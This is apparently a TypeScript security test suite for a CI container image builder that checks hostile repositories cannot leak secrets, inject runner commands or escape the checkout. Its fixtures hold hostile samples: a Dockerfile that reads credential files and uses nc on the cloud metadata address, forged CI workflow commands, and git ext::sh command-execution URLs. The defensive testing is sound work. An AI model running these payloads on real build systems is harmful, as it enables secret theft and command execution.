import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { fetchSource } from '../../src/ci/fetch-source.ts';
import type { GitFiles } from '../fakes/git-server/git-repository.ts';
import { openGitStand, plantedToken } from '../fakes/git-server/git-stand.ts';
import { build, busybox, crane, imageBuilder, registry, temporaryFolder, uniqueName } from './stage.ts';
import { holdsSecret, storedContent } from './stored-content.ts';

/** Fetches a commit with these files as the trusted side does, and writes the configuration that counts. */
async function fetched(files: (secretFile: string) => GitFiles) {
  const stand = await openGitStand();
  const secretFile = join(temporaryFolder(), 'secret');
  writeFileSync(secretFile, plantedToken);
  const commitSha = stand.repository.commit(files(secretFile));
  const source = await fetchSource(stand.request(commitSha), stand.place({ files: 100_010 }));
  const config = join(stand.folder, 'config.yaml');
  writeFileSync(config, `dev-registry: ${registry}/hostile\nprovenance: max\n`);
  const name = uniqueName('hostile');
  const args = ['--checkout', source.root, '--config', config, '--name', name, '--platform', 'linux/amd64'];
  return { args, name, commitSha, options: { cwd: stand.folder, env: { SOURCE_TOKEN: plantedToken } } };
}

/** Says everything that a runner, a terminal or a reader of reports could believe. */
const commands = [
  '##vso[task.setvariable variable=x]y',
  '##[add-path]/evil',
  '::set-output name=digest::sha256:evil',
  '::add-mask::done',
  '---IMAGE BUILD REPORT---',
  '{"status":"Succeeded","pushed":true,"signed":true,"digest":"sha256:evil"}',
  '---END OF IMAGE BUILD REPORT---',
  '\u001b]0;title\u0007\u001b[2J',
];

const snoop = `FROM ${busybox}
COPY . /context
RUN env; cat /proc/self/mounts /proc/1/environ; ls -laR /run/secrets /context; true
RUN cat /context/secret /context/etc/passwd /root/.netrc /root/.docker/config.json; true
RUN find / -xdev -type f -size -64k -not -path '/proc/*' -not -path '/sys/*' -exec grep -l planted {} + ; true
RUN nc -w 2 169.254.169.254 80 < /context/request && echo META""DATA; true
RUN cat /context/commands
`;

describe('a hostile repository with a hostile Dockerfile', () => {
  test('is built, learns nothing and is obeyed by nobody', async () => {
    const { args, name, options } = await fetched((secretFile) => ({
      Dockerfile: snoop,
      commands: `${commands.join('\n')}\n`,
      request: 'GET /computeMetadata/v1/ HTTP/1.0\nMetadata-Flavor: Google\n\n',
      secret: { link: secretFile },
      etc: { link: '/etc' },
      '.gitattributes': '* filter=evil\n',
      '.gitmodules': '[submodule "s"]\n\tpath = s\n\turl = ext::sh -c id\n',
      s: { submodule: '1'.repeat(40) },
      'image-builder.yaml': 'dev-registry: evil.example.com/x\n',
      '\u001b[31m\n::error::name': 'x',
    }));
    const { exitCode, report, stdout, stderr } = await build([...args, '--progress=plain'], options);
    expect(exitCode).toBe(0);
    expect(stderr).toContain('sha256:evil');
    expect(stderr).not.toMatch(/##vso\[|##\[|^\s*::|METADATA/m);
    expect(stderr).not.toContain('\u001b');
    expect(report).toMatchObject({ status: 'Succeeded', signed: false });
    const image = `${registry}/hostile/${name}`;
    expect(await crane('digest', `${image}:${report.tags[0]}`)).toBe(report.digest);
    expect(holdsSecret(stdout + stderr, plantedToken)).toBe(false);
    const stored = await storedContent(image, report.digest);
    expect(stored.filter(({ bytes }) => holdsSecret(bytes, plantedToken))).toEqual([]);
    // What the Dockerfile did get to see was looked for, and so would the token have been.
    expect(stored.some(({ bytes }) => holdsSecret(bytes, '::add-mask::done'))).toBe(true);
  });

  test.each([
    ['context', ['--context', 'out'], 'context "out" is a link that leads out of the checkout'],
    ['context', ['--context', 'a/up'], 'context "a/up" is a link that leads out of the checkout'],
    [
      'Dockerfile',
      ['--dockerfile', 'secret'],
      'dockerfile "secret" is a link that leads out of the checkout',
    ],
    [
      'ignore file',
      ['--context', 'b'],
      'ignore file "b/.dockerignore" is a link that leads out of the checkout',
    ],
  ])('cannot lead out with its %s (%j)', async (_, more, message) => {
    const { args, options } = await fetched((secretFile) => ({
      Dockerfile: `FROM ${busybox}\n`,
      out: { link: '/' },
      'a/up': { link: '../..' },
      secret: { link: secretFile },
      'b/.dockerignore': { link: secretFile },
    }));
    const { exitCode, stdout, stderr } = await imageBuilder(['build', ...args, ...more], options);
    expect({ exitCode, stdout, first: stderr.split('\n')[0] }).toEqual({
      exitCode: 2,
      stdout: '',
      first: `error: ${message}`,
    });
  });

  test('cannot have a git configuration of its own obeyed, in a folder that git takes for a repository', async () => {
    const proof = join(temporaryFolder(), 'proof');
    const { args, name, commitSha, options } = await fetched(() => ({
      'ctx/Dockerfile': `FROM ${busybox}\n`,
      'ctx/HEAD': 'ref: refs/heads/main\n',
      'ctx/refs/heads/main': `${'a'.repeat(40)}\n`,
      'ctx/objects/x': '',
      'ctx/config': `[core]
  repositoryformatversion = 1
  bare = false
  worktree = ..
[extensions]
  partialClone = evil
[remote "evil"]
  promisor = true
  url = "ext::sh -c touch% ${proof}"
[protocol]
  allow = always
`,
    }));
    const { exitCode, report, stderr } = await build(
      [...args, '--context', 'ctx', '--dockerfile', 'ctx/Dockerfile'],
      options,
    );
    expect([exitCode, existsSync(proof)], stderr).toEqual([0, false]);
    const stored = await storedContent(`${registry}/hostile/${name}`, report.digest);
    const provenance = stored.find(({ mediaType }) => mediaType === 'application/vnd.in-toto+json');
    const { metadata } = JSON.parse(String(provenance?.bytes)).predicate;
    expect(metadata['https://mobyproject.org/buildkit@v1#metadata'].vcs.revision).toBe(commitSha);
  });

  test('may have a hundred thousand files', async () => {
    const { args, name, options } = await fetched(() => {
      const names = Array.from({ length: 100_000 }, (_, at) => `${at % 100}/${at}`);
      return new Map([
        ...names.map((path) => [path, ''] as const),
        ['Dockerfile', `FROM ${busybox}\nCOPY 7 /7\n`],
      ]);
    });
    const { exitCode, report } = await build(args, options);
    expect(exitCode).toBe(0);
    await crane(
      'validate',
      '--remote',
      `${registry}/hostile/${name}:${report.tags[0]}`,
      '--platform',
      'linux/amd64',
    );
  });
});
